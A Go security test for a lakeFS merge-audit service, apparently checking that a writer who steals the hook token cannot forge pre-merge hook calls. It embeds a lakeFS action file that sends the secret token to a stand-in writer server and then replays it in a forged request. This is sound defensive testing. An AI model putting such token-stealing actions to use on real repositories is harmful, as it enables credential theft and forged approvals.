package tests

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/lakewap/lakewap/audit"
	"github.com/lakewap/lakewap/internal/config"
	"github.com/lakewap/lakewap/internal/daemon"
	"github.com/lakewap/lakewap/internal/harness"
	"github.com/lakewap/lakewap/schemas"
)

// TestWriterActionCannotCallTheHook is the attack of a writer on the real
// lakeFS server: an action file on its own batch branch runs when lakewap
// seals the branch, and lakeFS fills {{ ENV.LAKEFSACTION_* }} in it, so the
// writer's own server receives the hook token. With everything it received
// the writer calls lakewap's pre-merge hook about another branch's commit:
// the call names no merge in progress, so it is refused (403) without an
// audit and without a word about that commit's data.
func TestWriterActionCannotCallTheHook(t *testing.T) {
	t.Setenv("LAKEFSACTION_LAKEWAP_TOKEN", "hook-secret-2")
	e := startE2E(t, func(c *config.Config) { c.HTTP.Listen = "127.0.0.1:0"; c.HTTP.WebhookToken = "hook-secret-2" })
	ctx, cancel := context.WithTimeout(context.Background(), 4*time.Minute)
	defer cancel()
	base := "http://" + e.d.HTTPAddr()
	installAction(t, e.Env, base+daemon.PreMergePath)

	type call struct {
		header http.Header
		body   []byte
	}
	calls := make(chan call, 16)
	writer := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		calls <- call{r.Header.Clone(), b}
	}))
	defer writer.Close()

	batch := "stealer-1"
	must(t, e.Produce(ctx, schemas.BatchLanded{BatchID: batch, Dataset: "billing", ExpectedWrites: []string{"billing_fact"},
		Producer: "e2e", OccurredAt: time.Now().UTC().Truncate(time.Millisecond)}))
	ev, err := e.Watcher.Await(ctx, batch, schemas.TypeBranchReady)
	must(t, err)
	branch := ev.(schemas.BranchReady).Branch
	steal := fmt.Sprintf(`name: steal
on:
  pre-commit:
    branches: [%s]
hooks:
  - id: steal
    type: webhook
    properties:
      url: %s
      headers:
        X-Stolen: "{{ ENV.LAKEFSACTION_LAKEWAP_TOKEN }}"
`, branch, writer.URL)
	must(t, e.Lake.Upload(ctx, "lake", branch, "_lakefs_actions/steal.yaml", strings.NewReader(steal)))
	path := "gold/billing_fact/batch=" + batch + "/part-0.parquet"
	must(t, e.WriteParquet(ctx, branch, path, harness.GoodBillingRows))
	must(t, e.Produce(ctx, schemas.WriteComplete{BatchID: batch, Dataset: "billing", Write: "billing_fact",
		Paths: []string{path}, OccurredAt: time.Now().UTC().Truncate(time.Millisecond)}))
	if _, err := e.Watcher.Await(ctx, batch, schemas.TypeBatchPublished, schemas.TypeBatchAborted, schemas.TypeBatchFailed); err != nil {
		t.Fatal(err)
	}
	var got call
	select {
	case got = <-calls:
	case <-ctx.Done():
		t.Fatal("the writer's action never ran: the test shows nothing")
	}
	token := got.header.Get("X-Stolen")
	if token != "hook-secret-2" {
		t.Logf("the writer's action got %q for the token", token)
	}
	var seen map[string]any
	must(t, json.Unmarshal(got.body, &seen))

	// The victim: a committed branch with NULL billing ids.
	victim := branchWith(t, e.Env, "victim", harness.BadBillingRows)
	misses := value(t, scrape(t, base+"/metrics"), "lakewap_audit_cache_lookups_total", map[string]string{"outcome": "miss"})
	forged := map[string]any{"event_type": "pre-merge", "event_time": time.Now().UTC().Format(time.RFC3339),
		"action_name": "lakewap audit", "hook_id": "lakewap_audit", "repository_id": "lake", "branch_id": "main",
		"source_ref": victim, "merge_source": "victim", "commit_id": seen["commit_id"]}
	body, _ := json.Marshal(forged)
	req, err := http.NewRequest(http.MethodPost, base+daemon.PreMergePath, strings.NewReader(string(body)))
	must(t, err)
	for k, v := range got.header {
		req.Header[k] = v
	}
	req.Header.Set(audit.TokenHeader, token)
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	must(t, err)
	answer, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusForbidden {
		t.Errorf("the writer's hook call: %d %s; want 403 (no merge in progress)", resp.StatusCode, answer)
	}
	if after := value(t, scrape(t, base+"/metrics"), "lakewap_audit_cache_lookups_total", map[string]string{"outcome": "miss"}); after != misses {
		t.Errorf("the writer's call made lakewap audit (%v -> %v cache misses)", misses, after)
	}
	for _, leak := range []string{"sample", "observed", "null rows"} {
		if strings.Contains(strings.ToLower(string(answer)), leak) {
			t.Errorf("the answer to the writer tells about the victim's data (%q): %s", leak, answer)
		}
	}
}
